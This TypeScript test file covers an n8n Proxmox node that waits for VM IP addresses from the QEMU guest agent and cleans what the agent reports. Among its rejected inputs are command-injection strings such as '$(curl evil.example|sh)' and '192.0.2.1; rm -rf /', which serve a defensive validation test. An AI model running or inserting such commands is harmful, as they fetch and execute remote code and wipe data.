/* eslint-disable @n8n/community-nodes/no-restricted-globals -- a test, neither shipped nor scanned */
import type { IDataObject, INodeParameters } from 'n8n-workflow';

import type { Vm } from '../../tools/emulator';
import { newVm } from '../../tools/emulator/state/load';
import { fixed, forever, json, picked } from '../reliability/faults/ingredients';
import { inPanel, onPve1, openLab, type Lab } from '../support/lab';

let lab: Lab;
beforeEach(async () => {
	lab = await openLab();
});
afterEach(async () => await lab.close());

const VMID = 5010;
const MAC0 = 'BC:24:11:00:00:A0';
const MAC1 = 'BC:24:11:00:00:A1';

/** An interface as the guest agent reports it. */
const face = (name: unknown, mac: unknown, ...addresses: unknown[]) => ({
	name,
	'hardware-address': mac,
	'ip-addresses': addresses.map((address) => ({
		'ip-address': address,
		'ip-address-type': String(address).includes(':') ? 'ipv6' : 'ipv4',
		prefix: 24,
	})),
});
const lo = face('lo', '00:00:00:00:00:00', '127.0.0.1', '::1');
const docker0 = face('docker0', '02:42:0a:00:00:01', '172.17.0.1', 'fd00:1::1');
const eth0 = (...addresses: unknown[]) => face('eth0', MAC0.toLowerCase(), ...addresses);
const eth1 = (...addresses: unknown[]) => face('eth1', MAC1.toLowerCase(), ...addresses);

const card = (mac: string, options: INodeParameters = {}) => ({
	model: 'virtio',
	bridge: picked('vmbr0'),
	options: { macaddr: mac, ...options },
});
/** A VM that is started, and whose addresses are waited for. */
const waiting = (
	cards: object[],
	options: INodeParameters = {},
	more: INodeParameters = {},
): INodeParameters => ({
	...fixed(VMID),
	start: true,
	general: { agent_enabled: true },
	memory: { memory_current: 64 },
	netList: { values: cards as INodeParameters[] },
	options: { waitUntil: 'ip', readyTimeout: 60, maxPollInterval: 1, ...options },
	...more,
});

/** How often the agent was asked. */
const questions = () =>
	lab.emulator.requests.filter(({ path }) => path.endsWith('network-get-interfaces')).length;

/** Creates a VM whose guest agent reports one step after the other, the last one again and again. */
async function createWith(parameters: INodeParameters, ...steps: unknown[]): Promise<IDataObject> {
	const { items, error } = await lab.engine.runNode({
		parameters: inPanel({ ...onPve1, ...parameters }),
		credentials: lab.credentials,
		onProgress: (event) => {
			const vm = lab.emulator.state.vms.get(VMID);
			if (event.type !== 'log' || !event.message.includes('is being started') || !vm) return;
			vm.agentRuns = true;
			vm.guestInterfaces = () => (steps.length > 1 ? steps.shift() : steps[0]);
		},
	});
	if (error) throw error;
	return items[0]?.[0]?.json ?? {};
}

describe('Wait Until → IP Address', () => {
	it('waits for the address of the VM’s own card, not for docker0, link-local addresses or SLAAC', async () => {
		const made = await createWith(
			waiting([card(MAC0)]),
			[lo, docker0],
			[lo, docker0, eth0('fe80::be24:11ff:fe00:a0')],
			[lo, docker0, eth0('169.254.7.7', 'fe80::be24:11ff:fe00:a0', '2001:db8::a0')],
			[lo, docker0, eth0('fe80::be24:11ff:fe00:a0', '2001:db8::a0', '192.0.2.10')],
		);
		expect(made).toMatchObject({
			taskStatus: 'ok',
			warnings: [],
			ipAddresses: ['192.0.2.10', '2001:db8::a0'],
		});
		expect(made.networkInterfaces).toEqual([
			{ name: 'lo', mac: null, card: null, addresses: [] },
			{
				name: 'docker0',
				mac: '02:42:0A:00:00:01',
				card: null,
				addresses: ['172.17.0.1', 'fd00:1::1'],
			},
			{ name: 'eth0', mac: MAC0, card: 'net0', addresses: ['2001:db8::a0', '192.0.2.10'] },
		]);
	});

	it('waits for each card, and returns their addresses in the order of the cards', async () => {
		const made = await createWith(
			waiting([card(MAC0), card(MAC1)]),
			[lo, eth1('198.51.100.11')],
			[lo, eth1('198.51.100.11'), eth0()],
			[lo, eth1('198.51.100.11'), eth0('192.0.2.10')],
		);
		expect(made).toMatchObject({ taskStatus: 'ok', ipAddresses: ['192.0.2.10', '198.51.100.11'] });
	});

	it('takes VLANs, bridges and bonds with the MAC of a card for that card’s', async () => {
		const made = await createWith(waiting([card(MAC0)]), [
			lo,
			eth0(),
			face('br0', MAC0, '192.0.2.10'),
			face('eth0.20', MAC0, '198.51.100.20'),
		]);
		expect(made).toMatchObject({ ipAddresses: ['192.0.2.10', '198.51.100.20'], warnings: [] });
	});

	it.each([
		[
			'IPv6',
			'ipv6',
			[[eth0('192.0.2.10')], [eth0('192.0.2.10', '2001:db8::a0')]],
			['2001:db8::a0', '192.0.2.10'],
		],
		[
			'Either',
			'either',
			[[eth0()], [eth0('2001:db8::a0')], [eth0('2001:db8::a0', '192.0.2.10')]],
			['2001:db8::a0'],
		],
	])('waits for the version that is chosen: %s', async (_name, ipVersion, steps, ipAddresses) => {
		expect(await createWith(waiting([card(MAC0)], { ipVersion }), ...steps)).toMatchObject({
			taskStatus: 'ok',
			ipAddresses,
		});
	});

	it('names the cards that had none at the deadline', async () => {
		const made = await createWith(
			waiting([card(MAC0), card(MAC1)], { waitUntil: 'ip', readyTimeout: 5 }),
			[lo, docker0, eth0('192.0.2.10'), eth1('2001:db8::a1')],
		);
		expect(made).toMatchObject({
			taskStatus: 'warnings',
			ipAddresses: ['192.0.2.10', '2001:db8::a1'],
			warnings: [`net1 of VM ${VMID} had no IPv4 address after 5 s`],
		});
	});

	it('does not wait for a card that is unplugged', async () => {
		const made = await createWith(waiting([card(MAC0), card(MAC1, { link_down: true })]), [
			lo,
			eth0('192.0.2.10'),
			eth1(),
		]);
		expect(made).toMatchObject({ taskStatus: 'ok', warnings: [], ipAddresses: ['192.0.2.10'] });
		expect(questions()).toBe(1);
	});

	it('waits for IPv6 of a card that cloud-init gives no IPv4, and not for one that gets neither', async () => {
		const made = await createWith(
			{
				...waiting([]),
				specifyVm: 'json',
				vmJson: {
					net0: `virtio=${MAC0},bridge=vmbr0`,
					net1: `virtio=${MAC1},bridge=vmbr0`,
					ipconfig0: 'ip6=auto',
					ipconfig1: 'ip=manual',
					ide2: 'local:cloudinit',
					agent: '1',
					start: true,
					memory: 64,
				},
			},
			[lo, eth0()],
			[lo, eth0('2001:db8::a0'), eth1()],
		);
		expect(made).toMatchObject({ taskStatus: 'ok', warnings: [], ipAddresses: ['2001:db8::a0'] });
	});

	it('says so if the VM has no card', async () => {
		const disk = {
			source: 'new',
			storage: { __rl: true, mode: 'name', value: 'local' },
			size: 1,
			options: {},
		};
		const parameters = waiting([], {}, { diskList: { values: [disk] } });
		expect(await createWith(parameters, [lo])).toMatchObject({
			ipAddresses: [],
			warnings: expect.arrayContaining([
				`VM ${VMID} has no network card that requests an IP address`,
			]) as string[],
		});
		expect(questions()).toBe(1);
	});

	it('outlives an agent that is not up yet, and asks less and less often', async () => {
		const { warnings } = await lab.output(
			waiting([card(MAC0)], { waitUntil: 'ip', readyTimeout: 300 }),
		);
		expect(warnings).toEqual([
			`The guest agent of VM ${VMID} has not answered after 300 s: QEMU guest agent is not running. It needs the package qemu-guest-agent in the guest`,
		]);
		expect(questions()).toBeGreaterThan(10);
		expect(questions()).toBeLessThan(60);
	});

	it('ends at once if the agent is not configured', async () => {
		const made = await lab.output(
			waiting([card(MAC0)], { waitUntil: 'ip', readyTimeout: 3600 }, { general: {} }),
		);
		expect(made).toMatchObject({
			taskStatus: 'warnings',
			ipAddresses: [],
			networkInterfaces: [],
			warnings: [
				`The IP addresses of VM ${VMID} could not be read: QEMU Guest Agent (agent) is off. Turn it on, and restart the VM`,
			],
		});
		expect(questions()).toBe(0);
	});

	it('ends at once if Proxmox says that there is no agent', async () => {
		lab.emulator.faults.onRequest({
			path: /network-get-interfaces$/,
			effect: json(500, 'No QEMU guest agent configured'),
			times: forever,
		});
		expect(
			(await lab.output(waiting([card(MAC0)], { waitUntil: 'ip', readyTimeout: 3600 }))).warnings,
		).toEqual([expect.stringContaining('QEMU Guest Agent (agent) is off')]);
		expect(questions()).toBe(1);
	});

	it.each([
		[
			'the agent',
			/network-get-interfaces$/,
			`Permission check failed (/vms/${VMID}, VM.GuestAgent.Audit|VM.GuestAgent.Unrestricted)`,
			'VM.GuestAgent.Audit (before Proxmox VE 9: VM.Monitor)',
		],
		['the config', /\/config$/, `Permission check failed (/vms/${VMID}, VM.Audit)`, 'VM.Audit'],
	])('names the privilege if %s may not be read', async (_name, path, text, privilege) => {
		lab.emulator.faults.onRequest({ method: 'GET', path, effect: json(403, text), times: forever });
		expect(
			await lab.output(waiting([card(MAC0)], { waitUntil: 'ip', readyTimeout: 3600 })),
		).toMatchObject({
			taskStatus: 'warnings',
			ipAddresses: [],
			warnings: [
				`The IP addresses of VM ${VMID} could not be read: missing privilege ${privilege} on /vms/${VMID}`,
			],
		});
	});

	it('holds its time against an answer that trickles', async () => {
		lab.emulator.faults.onRequest({
			path: /network-get-interfaces$/,
			effect: 'trickle',
			times: forever,
		});
		expect(
			(await lab.output(waiting([card(MAC0)], { waitUntil: 'ip', readyTimeout: 20 }))).warnings,
		).toEqual([`The IP addresses of VM ${VMID} could not be read: no response in time`]);
	});

	it('ends with the execution', async () => {
		const stop = new AbortController();
		const { status } = await lab.engine.runNode({
			parameters: inPanel({
				...onPve1,
				...waiting([card(MAC0)], { waitUntil: 'ip', readyTimeout: 100_000 }),
			}),
			credentials: lab.credentials,
			signal: stop.signal,
			onProgress: (event) =>
				void (
					event.type === 'log' &&
					event.message.includes('is being started') &&
					setTimeout(() => stop.abort(), 5_000)
				),
		});
		expect(status).toBe('canceled');
	});
});

describe('What a guest reports', () => {
	const get = async (guestInterfaces: unknown, config: IDataObject = {}): Promise<IDataObject> => {
		const vm: Vm = {
			...newVm(7000, 'pve1', {
				agent: '1',
				net0: `virtio=${MAC0},bridge=vmbr0`,
				...(config as Record<string, string>),
			}),
			status: 'running',
			agentRuns: true,
		};
		vm.guestInterfaces = () => guestInterfaces;
		lab.emulator.state.vms.set(7000, vm);
		return await lab.output({
			operation: 'get',
			vm: '7000',
			simplify: false,
			options: { ipAddresses: true },
		});
	};

	it.each([
		'$(curl evil.example|sh)',
		'192.0.2.1; rm -rf /',
		'<img src=x>',
		'169',
		169,
		null,
		{},
		['192.0.2.1'],
		'',
		'0.0.0.0',
		'255.255.255.255',
		'224.0.0.251',
		'192.0.2.256',
		'192.0.2.01',
		'0xC0.0.2.1',
		'3221225985',
		'192.0.2.1/24',
		' 192.0.2.1',
		'192.0.2.1\n',
		'::',
		'::1',
		'::7f00:1',
		'::ffff:127.0.0.1',
		'fe80::1',
		'febf::1',
		'fe80::1%eth0',
		'2001:db8::1%eth0',
		'ff02::1',
		'2001:db8::1]/@evil',
		'2001:db8:::1',
		'12345::1',
		`${'1'.repeat(300)}::1`,
	])('is no address that goes out: %j', async (address) => {
		const { ipAddresses, networkInterfaces } = await get([eth0(address)]);
		expect(ipAddresses).toEqual([]);
		expect(networkInterfaces).toEqual([{ name: 'eth0', mac: MAC0, card: 'net0', addresses: [] }]);
	});

	it('is an address in its shortest form, once', async () => {
		const reported = [
			'192.0.2.1',
			'192.0.2.1',
			'2001:0DB8:0:0::0A',
			'fd12::1',
			'10.0.0.1',
			'100.64.0.1',
		];
		expect((await get([eth0(...reported)])).ipAddresses).toEqual([
			'192.0.2.1',
			'10.0.0.1',
			'100.64.0.1',
			'2001:db8::a',
			'fd12::1',
		]);
	});

	it.each(['$(reboot)', '<b>eth0</b>', 'eth0\nx', '-rf', '', 'x'.repeat(65), 7, null])(
		'is no name that goes out: %j',
		async (name) => {
			expect((await get([face(name, MAC0, '192.0.2.1')])).networkInterfaces).toEqual([
				{ name: null, mac: MAC0, card: 'net0', addresses: ['192.0.2.1'] },
			]);
		},
	);

	it.each(['eth0', 'eth0.20', 'br-3f2a', 'veth1@if2', 'Ethernet Instance 0'])(
		'is the name of an interface: %s',
		async (name) => {
			expect((await get([face(name, MAC0, '192.0.2.1')])).networkInterfaces).toMatchObject([
				{ name },
			]);
		},
	);

	it.each(['$(x)', 'BC:24:11:00:00', `${MAC0}:00`, `x${MAC0}`, 5, null])(
		'is no MAC that goes out: %j',
		async (mac) => {
			const got = await get([face('eth0', mac, '192.0.2.1')]);
			expect(got.networkInterfaces).toEqual([
				{ name: 'eth0', mac: null, card: null, addresses: ['192.0.2.1'] },
			]);
			expect(got.ipAddresses).toEqual([]);
		},
	);

	it.each([
		[null],
		['text'],
		[{}],
		[[null, 7, 'x', []]],
		[[{ name: 'eth0', 'ip-addresses': 'x' }]],
	])('may be nothing of use: %j', async (result) => {
		expect((await get(result)).ipAddresses).toEqual([]);
	});

	it('is bounded: 256 interfaces, those of cards first, and 50 addresses of each', async () => {
		const many = Array.from({ length: 60 }, (_, index) => `198.51.100.${index + 1}`);
		const made = await createWith(waiting([card(MAC0)]), [
			...Array.from({ length: 1_000 }, (_, index) =>
				face(`veth${index}`, docker0['hardware-address']),
			),
			eth0(...many),
		]);
		const interfaces = made.networkInterfaces as IDataObject[];
		expect(interfaces).toHaveLength(256);
		expect(interfaces.at(-1)).toMatchObject({ name: 'eth0', card: 'net0' });
		expect(made.ipAddresses).toEqual(many.slice(0, 50));
		expect(made.warnings).toEqual([
			`VM ${VMID} reports 1001 network interfaces: 745 more than shown`,
			`eth0 of VM ${VMID} reports up to 10 more addresses than shown`,
		]);
	});

	it('is tied to the cards in their order, net10 after net2', async () => {
		const macs = { net10: 'BC:24:11:00:00:10', net2: 'BC:24:11:00:00:02' };
		const cards = Object.fromEntries(
			Object.entries(macs).map(([name, mac]) => [name, `model=e1000,macaddr=${mac},bridge=vmbr0`]),
		);
		const got = await get(
			[
				face('c', macs.net10, '192.0.2.110'),
				face('b', macs.net2, '192.0.2.102'),
				eth0('192.0.2.100'),
			],
			cards,
		);
		expect(got.ipAddresses).toEqual(['192.0.2.100', '192.0.2.102', '192.0.2.110']);
		expect(got.networkInterfaces).toMatchObject([
			{ card: 'net10' },
			{ card: 'net2' },
			{ card: 'net0' },
		]);
	});

	it('is read with the cards of now if the config of a snapshot is asked for', async () => {
		await get([eth0('192.0.2.1')]);
		const vm = lab.emulator.state.vms.get(7000);
		// A card that is exchanged at the next start is still the old one.
		if (vm) vm.pending = { net0: `virtio=${MAC1},bridge=vmbr0` };
		if (vm)
			vm.snapshots = [{ name: 'before', snaptime: 0, vmstate: false, config: { agent: '1' } }];
		const got = await lab.output({
			operation: 'get',
			simplify: false,
			vm: '7000',
			options: { ipAddresses: true, snapshot: picked('before') },
		});
		expect(got.ipAddresses).toEqual(['192.0.2.1']);
	});
});

describe('Get → IP Addresses', () => {
	const get = async (vmid: number) =>
		await lab.output({
			operation: 'get',
			simplify: false,
			vm: picked(String(vmid)),
			options: { ipAddresses: true },
		});
	const vm = (change: Partial<Vm>) =>
		lab.emulator.state.vms.set(7000, { ...newVm(7000, 'pve1', { agent: '1' }), ...change });

	it('returns a stopped VM with a warning', async () => {
		vm({});
		expect(await get(7000)).toMatchObject({
			vmid: 7000,
			status: 'stopped',
			ipAddresses: [],
			networkInterfaces: [],
			warnings: ['The guest agent of VM 7000 has not answered: VM 7000 is not running'],
		});
	});

	it('returns a VM without an agent, and one whose agent does not run', async () => {
		vm({ config: {}, status: 'running' });
		expect(await get(7000)).toMatchObject({
			ipAddresses: [],
			warnings: [expect.stringContaining('QEMU Guest Agent (agent) is off')],
		});
		vm({ status: 'running' });
		expect(await get(7000)).toMatchObject({
			ipAddresses: [],
			warnings: ['The guest agent of VM 7000 has not answered: QEMU guest agent is not running'],
		});
		expect(questions()).toBe(1);
	});

	it('returns the VM if the agent may not be asked', async () => {
		vm({ status: 'running', agentRuns: true });
		lab.emulator.faults.onRequest({
			path: /network-get-interfaces$/,
			effect: json(
				403,
				'Permission check failed (/vms/7000, VM.GuestAgent.Audit|VM.GuestAgent.Unrestricted)',
			),
		});
		expect(await get(7000)).toMatchObject({
			status: 'running',
			ipAddresses: [],
			warnings: [expect.stringContaining('missing privilege VM.GuestAgent.Audit')],
		});
	});

	it('has no warnings if the agent answers, and none of this if it is not asked for', async () => {
		vm({
			status: 'running',
			agentRuns: true,
			config: { agent: '1', net0: `virtio=${MAC0},bridge=vmbr0` },
		});
		expect(await get(7000)).toMatchObject({ ipAddresses: ['192.0.2.100'], warnings: [] });
		const bare = await lab.output({ operation: 'get', vm: picked('7000'), options: {} });
		for (const key of ['ipAddresses', 'networkInterfaces', 'warnings'])
			expect(bare).not.toHaveProperty(key);
	});
});
